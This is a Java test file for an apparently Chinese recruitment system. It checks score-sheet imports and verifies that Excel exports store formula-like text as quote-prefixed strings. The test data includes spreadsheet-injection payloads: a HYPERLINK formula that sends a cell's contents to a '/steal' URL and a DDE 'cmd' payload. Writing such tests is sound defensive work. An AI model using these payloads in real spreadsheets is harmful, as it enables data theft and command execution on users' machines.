package cn.jiceng.recruitment;

import static cn.jiceng.recruitment.RecruitmentFixtures.NOW;
import static cn.jiceng.recruitment.RecruitmentFixtures.idNumber;
import static org.assertj.core.api.Assertions.assertThat;

import cn.jiceng.recruitment.domain.Application;
import cn.jiceng.recruitment.domain.ApplicationRepository;
import cn.jiceng.recruitment.domain.ApplicationStatus;
import cn.jiceng.recruitment.domain.Campaign;
import cn.jiceng.recruitment.domain.Education;
import cn.jiceng.recruitment.domain.Post;
import cn.jiceng.recruitment.domain.PostRepository;
import cn.jiceng.recruitment.domain.PostType;
import cn.jiceng.recruitment.service.ExamService;
import cn.jiceng.recruitment.service.ExportService;
import cn.jiceng.recruitment.service.NewApplicant;
import cn.jiceng.recruitment.service.PostTableImportService;
import cn.jiceng.recruitment.service.RecruitmentService;
import cn.jiceng.review.service.ReviewTaskService;
import cn.jiceng.security.service.UserService;
import cn.jiceng.testsupport.JicengSpringBootTest;
import cn.jiceng.testsupport.badinput.BadInputAssertions;
import cn.jiceng.testsupport.badinput.BadInputCorpus;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * The scores and any-import corpus through the real written-score import of a campaign whose post
 * {@value BadInputCorpus#SCORE_POST} has five qualified applicants: a refused sheet leaves every
 * score as it was; a messy but right one (GBK, BOM, full-width digits, the exported template with
 * its 岗位代码 column) stores exactly the clean sheet's scores. And the exports write user text
 * that looks like a formula as text.
 */
@JicengSpringBootTest
class ScoresBadInputTest {

    @Autowired
    RecruitmentService recruitment;
    @Autowired
    PostTableImportService postImport;
    @Autowired
    ExamService exams;
    @Autowired
    ExportService exports;
    @Autowired
    ReviewTaskService tasks;
    @Autowired
    UserService users;
    @Autowired
    ApplicationRepository applications;
    @Autowired
    PostRepository posts;

    RecruitmentFixtures fixtures;
    static Campaign campaign;

    @BeforeEach
    void setUp() {
        fixtures = new RecruitmentFixtures(recruitment, postImport, tasks, users);
        ClockUtil.setCurrentTime(Date.from(NOW.toInstant()));
        if (campaign == null) {
            campaign = fixtures.createCampaign("BAD-SC", "坏输入成绩", 77, NOW.minusDays(1).toInstant(), NOW.plusDays(5).toInstant());
            postImport.importPosts(campaign.getId(), ("招聘单位,单位代码,岗位名称,岗位代码,招聘人数,学历,专业,年龄,其他条件\n"
                    + "长山花园社区,220103001001,社区治理专干," + BadInputCorpus.SCORE_POST + ",1,大专,不限,35,\n")
                    .getBytes(StandardCharsets.UTF_8));
            Post post = recruitment.posts(campaign.getId()).get(0);
            List<String> names = BadInputCorpus.SCORE_NAMES;
            for (int i = 0; i < names.size(); i++) {
                String user = "bad.scores." + i;
                recruitment.registerApplicant(new NewApplicant(user, "Scores#2026pass", names.get(i),
                        idNumber("2201041995" + "0" + (i + 1) + "1589" + i), "13700000000", "BACHELOR", "吉林大学", "社会工作",
                        LocalDate.of(2024, 6, 30), null));
                recruitment.markStatus(recruitment.apply(user, post.getId()).getId(), ApplicationStatus.QUALIFIED);
            }
            assertThat(exams.assignAdmissionNumbers(campaign.getId())).isEqualTo(names.size());
        }
    }

    @AfterEach
    void resetClock() {
        ClockUtil.reset();
    }

    @TestFactory
    Stream<DynamicTest> corpus() {
        Map<String, BigDecimal> expected = new HashMap<>();
        BadInputCorpus.SCORE_ROWS.forEach(r -> expected.put(r.get(0), new BigDecimal(r.get(2))));
        return BadInputAssertions.tests(List.of("scores", BadInputCorpus.ANY),
                c -> content -> exams.importScores(campaign.getId(), ExamService.Kind.WRITTEN, content), this::snapshot, (c, result) -> {
                    assertThat(result).as(c.id()).isEqualTo(c.rows());
                    for (Application a : qualified()) {
                        if (expected.containsKey(a.getAdmissionNo())) {
                            assertThat(a.getWrittenScore()).as(c.id() + " " + a.getAdmissionNo())
                                    .isEqualByComparingTo(expected.get(a.getAdmissionNo()));
                        }
                    }
                });
    }

    private List<Application> qualified() {
        return applications.findByCampaignIdAndStatus(campaign.getId(), ApplicationStatus.QUALIFIED);
    }

    /** Every qualified application's scores. */
    private Object snapshot() {
        return qualified().stream().map(a -> a.getId() + "|" + a.getAdmissionNo() + "|" + a.getWrittenScore() + "|" + a.getInterviewScore())
                .sorted().toList();
    }

    /**
     * Rows stored before imports refused formulas (or typed elsewhere) may hold text like
     * =HYPERLINK(…): the Excel exports write it as a string cell with the quote prefix, never as a
     * formula, and so every text that starts with + - @.
     */
    @Test
    void exportsWriteFormulaLikeTextAsTextCells() throws IOException {
        String hyperlink = "=HYPERLINK(\"http://127.0.0.1/steal?d=\"&A1,\"点击查看\")";
        List<String> dangerous = List.of(hyperlink, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)");
        for (int i = 0; i < dangerous.size(); i++) {
            posts.save(new Post(campaign, "BSX0" + i, "220103001001", i == 0 ? "@长山花园社区" : "长山花园社区", dangerous.get(i),
                    PostType.COMMUNITY_GOVERNANCE, 1, Education.JUNIOR_COLLEGE, null, 35, null, false, null));
        }
        byte[] xlsx = exports.postCounts(fixtures.user("cc.hr"), campaign.getId());
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = wb.getSheetAt(0);
            Map<String, Cell> postNames = new HashMap<>();
            for (Row row : sheet) {
                Cell cell = row.getCell(2);
                postNames.put(cell.getStringCellValue(), cell);
                for (Cell c : row) {
                    assertThat(c.getCellType()).as("no formula cell anywhere: " + c.getAddress()).isNotEqualTo(CellType.FORMULA);
                }
            }
            for (String text : dangerous) {
                Cell cell = postNames.get(text);
                assertThat(cell).as(text).isNotNull();
                assertThat(cell.getCellType()).as(text).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(text);
                assertThat(cell.getCellStyle().getQuotePrefixed()).as(text + " quote-prefixed").isTrue();
            }
            Cell unit = sheet.getRow(1).getCell(1);
            assertThat(unit.getStringCellValue()).isEqualTo("长山花园社区");
            assertThat(unit.getCellStyle().getQuotePrefixed()).as("ordinary text keeps the ordinary style").isFalse();
        }
    }
}
